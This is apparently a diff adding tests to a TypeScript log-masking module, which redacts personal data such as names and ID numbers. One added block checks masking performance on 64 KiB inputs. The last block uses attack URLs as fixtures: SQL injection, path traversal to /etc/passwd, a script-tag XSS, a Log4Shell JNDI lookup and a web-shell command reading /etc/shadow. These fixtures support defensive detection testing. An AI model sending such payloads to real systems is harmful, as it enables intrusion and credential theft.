@@ -106,3 +106,43 @@ describe('maskUrl', () => {
     expect(maskUrl(maskUrl(url, tokens()), tokens())).toBe(maskUrl(url, tokens()));
   });
 });
+
+describe('masking costs no more than its length', () => {
+  const fill = (piece: string) => piece.repeat(Math.ceil(65_000 / piece.length));
+  it.each([
+    'a=',
+    'hoTen=',
+    'hoTen: a ',
+    'a@',
+    'a.',
+    '0 ',
+    'cccd=',
+    'cccd 123456789 ',
+    'eyJaaaaaaa.',
+    'bearer ',
+    'hoTen="',
+    '[a:',
+    '%25',
+    " like '",
+    'ế=',
+  ])('64 KiB of «%s»', (piece) => {
+    for (const text of [fill(piece), `hoTen=${fill(piece)}`]) {
+      const once = maskText(text, tokens());
+      expect(maskText(once, tokens())).toBe(once);
+      maskUrl(`/a?${text}`, tokens());
+    }
+  });
+});
+
+describe('an attack stays visible to the rules', () => {
+  it.each([
+    ['/tra-cuu?ma=1%27%20or%20%271%27=%271', '%27%20or%20'],
+    ['/api/hoso?id=5 UNION SELECT username,password FROM users', 'UNION SELECT'],
+    ['/xem?tep=../../../../etc/passwd', '../../../../etc/passwd'],
+    ['/t?hoTen=%3Cscript%3Ealert(1)%3C/script%3E', '%3Cscript%3E'],
+    ['/t?diaChi=%24%7Bjndi:ldap://203.0.113.9/a%7D', '%24%7Bjndi:ldap://203.0.113.9/a%7D'],
+    ['/shell.php?cmd=cat+/etc/shadow', 'cmd=cat+/etc/shadow'],
+  ])('%s', (url, attack) => {
+    expect(maskUrl(url, tokens())).toContain(attack);
+  });
+});
